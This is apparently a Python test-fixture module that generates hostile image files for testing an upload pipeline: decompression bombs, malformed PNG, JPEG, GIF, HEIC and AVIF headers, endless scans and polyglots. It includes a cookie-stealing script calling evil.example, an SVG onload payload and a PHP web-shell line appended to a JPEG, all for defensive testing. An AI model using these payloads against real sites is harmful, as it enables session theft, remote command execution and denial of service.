"""Pictures that mean harm, made here: each is a name and its bytes."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pillow_heif
from PIL import Image

from tests.upscrolled.media.photo.pictures import Pictures

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"


def png(width: int, height: int, *more: tuple[bytes, bytes], data: bytes = b"") -> bytes:
    """A PNG of one bit a pixel that says it is so large; `data` are its rows, `more` other chunks."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    rest = b"".join(chunk(*each) for each in more)
    body = chunk(b"IDAT", zlib.compress(data, 9))
    return b"\x89PNG\r\n\x1a\n" + head + rest + body + chunk(b"IEND", b"")


def rows(width: int, height: int) -> bytes:
    return (b"\0" + bytes((width + 7) // 8)) * height


def box(kind: bytes, *content: bytes, full: int | None = None) -> bytes:
    """Return a box of ISO/IEC 14496-12, with version and flags if `full` is a version."""
    body = (b"" if full is None else struct.pack(">I", full << 24)) + b"".join(content)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def huge(pictures: Pictures) -> dict[str, bytes]:
    """More pixels than are taken, said in every format's own way."""
    jpeg, gif = pictures["photo.jpg"].read_bytes(), bytearray(pictures["photo.gif"].read_bytes())
    at = jpeg.index(b"\xff\xc0")
    beyond = bytearray(gif)  # a frame far beyond its canvas
    frame = beyond.index(b"\x2c\0\0\0\0") + 5
    beyond[frame : frame + 4] = b"\xff\xff" * 2
    gif[6:10] = b"\xff\xff" * 2
    made = {
        "bomb.png": png(30_000, 30_000, data=rows(30_000, 30_000)),
        "bomb.jpg": jpeg[: at + 5] + b"\xff\xdc" * 2 + jpeg[at + 9 :],
        "bomb.gif": bytes(gif),
        "beyond.gif": bytes(beyond),
    }
    for name in ("heic", "avif"):
        data = bytearray(pictures[f"photo.{name}"].read_bytes())
        place = data.index(b"ispe") + 8
        data[place : place + 8] = struct.pack(">II", 60_000, 60_000)
        made[f"bomb.{name}"] = bytes(data)
    return made


def long_sides() -> dict[str, bytes]:
    """Few pixels, all in one row."""
    return {
        "tall.png": png(1, 1_000_000, data=rows(1, 1_000_000)),
        "wide.png": png(1_000_000, 1, data=rows(1_000_000, 1)),
    }


def packed() -> dict[str, bytes]:
    """Chunks that unpack to much more than they are."""
    bomb = zlib.compress(bytes(200_000_000), 9)
    return {
        "text_bomb.png": png(8, 8, (b"zTXt", b"Comment\0\0" + bomb), data=rows(8, 8)),
        "itxt_bomb.png": png(8, 8, (b"iTXt", b"Comment\0\1\0\0\0" + bomb), data=rows(8, 8)),
        "profile_bomb.png": png(8, 8, (b"iCCP", b"sRGB\0\0" + bomb), data=rows(8, 8)),
    }


def packed_notes(pictures: Pictures) -> dict[str, bytes]:
    """HEIC and AVIF with notes that are said to be deflated (ISO/IEC 14496-12, content_encoding), to 200 MB."""
    bomb, made = zlib.compress(bytes(200_000_000), 9), {}
    picture = Image.open(pictures["photo.png"]).convert("RGB")
    heic, avif = io.BytesIO(), io.BytesIO()
    pillow_heif.from_pillow(picture).save(heic, xmp=bomb)
    picture.save(avif, "AVIF", xmp=bomb)
    for suffix, data in (("heic", heic.getvalue()), ("avif", avif.getvalue())):
        kind = b"application/rdf+xml\0"
        assert data.count(kind) == 1
        made[f"notes.{suffix}"] = _lengthened(data, data.index(kind) + len(kind), b"deflate\0")
    return made


def _lengthened(data: bytes, at: int, more: bytes) -> bytes:
    """Put bytes into a description within `meta`; boxes around it grow, and what lies behind moves."""
    changed, holding = bytearray(data), []
    begins = data.index(b"meta") - 4
    for kind in (b"meta", b"iinf", b"infe"):
        place = data.rindex(kind, begins, at) - 4
        struct.pack_into(">I", changed, place, struct.unpack_from(">I", data, place)[0] + len(more))
        holding.append(place)
    _move_items(changed, data.index(b"iloc"), len(more))
    changed[at:at] = more
    return bytes(changed)


def _move_items(data: bytearray, iloc: int, by: int) -> None:
    """Add to the offset of every extent that is told from the beginning of the file."""
    version, sizes = data[iloc + 4], struct.unpack_from(">H", data, iloc + 8)[0]
    offset, length, base = sizes >> 12, sizes >> 8 & 15, sizes >> 4 & 15
    assert (offset, length) == (4, 4)
    at = iloc + 12
    for _ in range(struct.unpack_from(">H", data, iloc + 10)[0]):
        method = struct.unpack_from(">H", data, at + 2)[0] & 15 if version else 0
        at += (4 if version else 2) + 2 + base
        count = struct.unpack_from(">H", data, at)[0]
        at += 2
        for _ in range(count):
            if method == 0:
                struct.pack_into(">I", data, at, struct.unpack_from(">I", data, at)[0] + by)
            at += 8


def endless_scans(times: int = 3000) -> bytes:
    """A JPEG whose last scan comes again and again: each costs a walk over all of the picture."""
    out = io.BytesIO()
    Image.new("RGB", (5000, 5000), "gray").save(out, "JPEG", progressive=True)
    data = out.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * times + b"\xff\xd9"


def many_frames(count: int = 20_000) -> bytes:
    """A GIF of a few kilobytes for each minute that its frames would fill."""
    head = b"GIF89a" + struct.pack("<HHBBB", 5000, 5000, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\0"
    return head + frame * count + b"\x3b"


def lies(pictures: Pictures) -> dict[str, bytes]:
    """Headers that claim what is not there."""
    webp, gif = pictures["photo.webp"].read_bytes(), pictures["photo.gif"].read_bytes()
    return {
        "few_rows.png": png(4000, 3000, data=rows(4000, 10)),
        "no_rows.png": png(4000, 3000),
        "riff.webp": webp[:4] + struct.pack("<I", 0x7FFFFFF0) + webp[8:],
        "head.jpg": pictures["photo.jpg"].read_bytes()[:200],
        "only_head.gif": gif[:13],
        "chunk.png": png(8, 8)[:8] + struct.pack(">I", 0x7FFFFFFF) + png(8, 8)[12:],
        "no_scan.jpg": b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xd9",
    }


def boxes(pictures: Pictures) -> dict[str, bytes]:
    """HEIC and AVIF whose boxes lead nowhere, or everywhere."""
    made = {}
    for brand, suffix in ((b"heic", "heic"), (b"avif", "avif")):
        kind = box(b"ftyp", brand, bytes(4), b"mif1", brand)
        nested = b""
        for _ in range(5000):
            nested = box(b"iprp", nested)
        made |= {
            f"empty.{suffix}": kind,
            f"nothing.{suffix}": kind + box(b"meta", bytes(1000), full=0),
            f"zeroes.{suffix}": kind + box(b"meta", bytes(20_000_000), full=0),
            f"nested.{suffix}": kind + _meta(nested),
            f"many_items.{suffix}": kind + _meta(box(b"iinf", struct.pack(">I", 0xFFFFFFF0), full=1)),
            f"many_extents.{suffix}": kind + _meta(_iloc(1, 65_535)),
            f"grid_of_itself.{suffix}": kind + _grid(65_535, 255),
            f"large_grid.{suffix}": kind + _grid(8000, 255),
            f"beyond.{suffix}": struct.pack(">I", 0xFFFFFFF0) + pictures[f"photo.{suffix}"].read_bytes()[4:],
        }
    return made


def _meta(*content: bytes) -> bytes:
    handler = box(b"hdlr", bytes(4), b"pict", bytes(13), full=0)
    return box(b"meta", handler, box(b"pitm", struct.pack(">H", 1), full=0), *content, full=0)


def _iloc(item: int, extents: int, length: int = 0xFFFF) -> bytes:
    each = struct.pack(">II", 0, length)
    return box(b"iloc", b"\x44\0", struct.pack(">HHHH", 1, item, 0, extents), each * extents, full=0)


def _grid(side: int, tiles: int) -> bytes:
    """A picture that is made of many of itself."""
    item = box(b"infe", struct.pack(">HH", 1, 0), b"grid", b"\0", full=2)
    count = (tiles + 1) ** 2
    tile_of = box(
        b"dimg", struct.pack(">HH", 1, count & 0xFFFF or 65_535), struct.pack(">H", 1) * min(count, 65_535)
    )
    idat = box(b"idat", bytes((0, 0, tiles, tiles)), struct.pack(">HH", side, side))
    iloc = box(b"iloc", b"\x44\0", struct.pack(">HHHHHII", 1, 1, 1, 0, 1, 0, 8), full=1)
    size = box(b"ispe", struct.pack(">II", side, side), full=0)
    has = box(b"ipma", struct.pack(">IHBB", 1, 1, 1, 1), full=0)
    return _meta(
        box(b"iinf", struct.pack(">H", 1), item, full=0),
        box(b"iref", tile_of, full=0),
        iloc,
        idat,
        box(b"iprp", box(b"ipco", size), has),
    )


def strangers() -> dict[str, bytes]:
    """What is no picture, or none that is taken, under names of some."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("bomb.jpg", bytes(20_000_000))
    return {
        "text.jpg": b"hello, I am no picture\n" * 50,
        "arabic.jpg": "لست صورة\n".encode() * 50,
        "page.jpg": b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>",
        "drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "drawing.png": b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "bomb.jpg": archive.getvalue(),
        "film.jpg": box(b"ftyp", b"isom", bytes(4), b"isom") + box(b"mdat", bytes(100)),
        "paper.jpg": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "scan.jpg": b"II*\0\x08\0\0\0" + bytes(100),
        "drawing.eps.jpg": b"%!PS-Adobe-3.0 EPSF-3.0\n" + bytes(20),
        "shell.jpg": b"#!/bin/sh\nexit 0\n",
        "noise.jpg": random.Random(3).randbytes(5000),
        "zeroes.jpg": bytes(5000),
        "one_byte.jpg": b"\xff",
    }


def polyglots(pictures: Pictures) -> dict[str, bytes]:
    """A picture that is something else as well."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("run.js", "alert(1)")
        file.comment = b"a comment that comes after the end"
    jpeg, png_ = pictures["photo.jpg"].read_bytes(), pictures["photo.png"].read_bytes()
    page = b"<html><body>" + SCRIPT + b"</body></html>"
    comment = b"\xff\xfe" + struct.pack(">H", len(page) + 2) + page
    return {
        "jpeg_zip.jpg": jpeg + archive.getvalue(),
        "png_zip.png": png_ + archive.getvalue(),
        "gif_zip.gif": pictures["photo.gif"].read_bytes() + archive.getvalue(),
        "jpeg_page.jpg": jpeg + page,
        "jpeg_comment.jpg": jpeg[:2] + comment + jpeg[2:],
        "jpeg_php.jpg": jpeg + b"<?php system($_GET['c']); ?>",
    }


def cut(data: bytes) -> Iterator[tuple[int, bytes]]:
    """Yield a file that ended after each tenth."""
    for tenth in range(1, 10):
        yield tenth, data[: len(data) * tenth // 10]


def damaged(data: bytes, times: int, seed: int = 1) -> Iterator[bytes]:
    """Yield a file with some bytes that are others, most of them near its beginning."""
    chance = random.Random(seed)
    for _ in range(times):
        changed = bytearray(data)
        for _ in range(chance.randint(1, 12)):
            at = min(int(chance.expovariate(8 / len(data))), len(data) - 1)
            changed[at] = chance.choice((0, 0xFF, 0x7F, chance.randrange(256)))
        yield bytes(changed)
